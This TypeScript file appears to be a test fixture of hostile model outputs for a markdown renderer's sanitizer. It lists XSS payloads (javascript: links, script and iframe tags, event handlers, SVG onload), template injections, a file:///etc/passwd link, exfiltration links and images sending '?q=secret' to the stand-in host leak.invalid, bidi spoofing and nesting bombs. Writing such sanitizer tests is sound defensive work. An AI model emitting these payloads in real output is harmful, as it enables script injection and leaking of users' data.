/** Where everything hostile points: a name that nobody has, so that a request to it is a failed one and not a leak. */
const out = 'https://leak.invalid';
/** One dot, as a picture that carries itself. */
const dot = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
const script = 'data:text/html,<script>document.title=1</script>';
/** Turns the order of what follows it on the screen. */
const turned = '\u202e';

/** Outputs of a model that means harm, or was made to by what it read: each tries to load something or to lead away. */
export const hostileOutputs: readonly (readonly [name: string, output: string])[] = [
  ['a link that is a script', '[press](javascript:document.title="taken")'],
  ['a script in capitals and with a tab', '[press](JaVaScRiPt:alert&#40;1&#41;) [press](<java\tscript:alert(1)>)'],
  ['a script behind entities', '[press](&#106;avascript&colon;alert(1)) [press](javascript&#x3A;alert(1))'],
  ['a script for an old browser', '[press](vbscript:msgbox(1))'],
  ['a page in a link', `[press](<${script}>)`],
  ['a link by reference', `[press][1] [1][] [1]\n\n[1]: javascript:alert(1) "press"`],
  ['addresses in pointed brackets', `<javascript:alert(1)> <${out}/a> <someone@leak.invalid>`],
  ['addresses that stand alone', `${out}/a?q=secret www.leak.invalid/b someone@leak.invalid`],
  ['a link to elsewhere', `[your results](${out}/?q=secret)`],
  ['a link without a scheme', '[press](//leak.invalid/a) [press](\\\\\\\\leak.invalid\\share\\a)'],
  ['links into the app', '[Settings](#/settings) [Home](#/) [top](#) [back](/) [up](../..) [same](?)'],
  [
    'links to files and to the app’s own scheme',
    '[a](file:///etc/passwd) [b](app://braid/) [c](blob:null/1) [d](C:\\\\a)',
  ],
  ['links that other programs answer', '[a](mailto:a@leak.invalid) [b](tel:1) [c](ms-word:ofe) [d](vscode://file/a)'],
  ['a picture', `![a chart](${out}/a.png?q=secret)`],
  ['a picture by reference, with a title', `![a chart][pic]\n\n[pic]: ${out}/b.png "chart"`],
  ['a picture in a link', `[![a chart](${out}/c.png)](${out}/d)`],
  ['a picture that carries itself', `![dot](${dot}) ![drawing](data:image/svg+xml,<svg onload=alert(1)>)`],
  ['a picture from the app’s own files', '![icon](/favicon.ico) ![icon](assets/icon.png) ![](//leak.invalid/e.png)'],
  ['a picture as an element', `<img src="${out}/f.png" srcset="${out}/g.png 2x" onerror="document.title='taken'">`],
  ['a script element', `<script>document.title='taken'</script>\n\n<script src="${out}/h.js"></script>`],
  ['a page within the page', `<iframe src="${out}/i"></iframe><iframe srcdoc="<script>top.document.title=1</script>">`],
  ['objects and embedded things', `<object data="${out}/j"></object><embed src="${out}/k"><applet code="${out}/l">`],
  ['a page that moves on', `<meta http-equiv="refresh" content="0; url=${out}/m">`],
  ['another base for every address', `<base href="${out}/">`],
  ['a style that loads', `<style>@import url(${out}/n.css); body{background:url(${out}/o)}</style>`],
  ['a style sheet', `<link rel="stylesheet" href="${out}/p.css"><link rel="prefetch" href="${out}/q">`],
  ['a style on an element', `<p style="background:url(${out}/r);position:fixed;inset:0">over everything</p>`],
  [
    'a drawing that acts',
    `<svg onload="document.title='taken'"><image href="${out}/s.png"/><use href="${out}/t#a"/></svg>`,
  ],
  [
    'a form that sends',
    `<form action="${out}/u"><input name="q" autofocus onfocus="alert(1)"><button>Send</button></form>`,
  ],
  ['sound and film', `<video src="${out}/v" poster="${out}/w" autoplay></video><audio src="${out}/x" autoplay>`],
  ['a source for every screen', `<picture><source srcset="${out}/y"><img src="${out}/z" loading="eager"></picture>`],
  [
    'handlers on harmless elements',
    '<details open ontoggle="alert(1)"><summary>more</summary></details><b onclick="x()">b</b>',
  ],
  [
    'a template language',
    `{window.location='${out}'} {{constructor.constructor('alert(1)')()}} <% eval(1) %> \${alert(1)}`,
  ],
  ['a module', `import x from '${out}/aa.js'\nexport default () => <img src="${out}/ab.png" />`],
  [
    'a footnote',
    `A claim[^1] and another[^constructor].\n\n[^1]: ![x](${out}/ac.png) [go](#/settings)\n[^constructor]: b`,
  ],
  ['a box to tick', '- [ ] not done\n- [x] done <input type="image" src="https://leak.invalid/ad">'],
  ['a table of pictures', `| a | b |\n| :-- | --: |\n| ![x](${out}/ae.png) | [x](javascript:alert(1)) |`],
  ['code that says what language it is', `\`\`\`html onload=alert(1)\n<img src="${out}/af.png">\n\`\`\``],
  ['a link that reads as another', `[https://braid.invalid](${out}) [safe${turned}moc.dilavni](${out}/${turned}gnp)`],
  [
    'a comment and a declaration',
    `<!-- <img src="${out}/ag.png"> --> <!DOCTYPE x [<!ENTITY y SYSTEM "${out}/ah">]> <?php x ?>`,
  ],
  [
    'a tag that is closed by a title',
    `[x](${out} "\\"><img src=${out}/ai.png>") <a href="${out}/aj" ping="${out}/ak">x</a>`,
  ],
  ['quotes in quotes', `${'> '.repeat(5_000)}deep`],
  ['lists in lists', Array.from({ length: 1_000 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
  ['pictures in pictures', `${'!['.repeat(4_000)}x${`](${out}/al.png)`.repeat(4_000)}`],
  ['emphasis without an end', `${'*'.repeat(8_000)}a${'_'.repeat(8_000)}`],
  ['a very wide table', `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n${`|${'b|'.repeat(100)}\n`.repeat(8)}`],
];
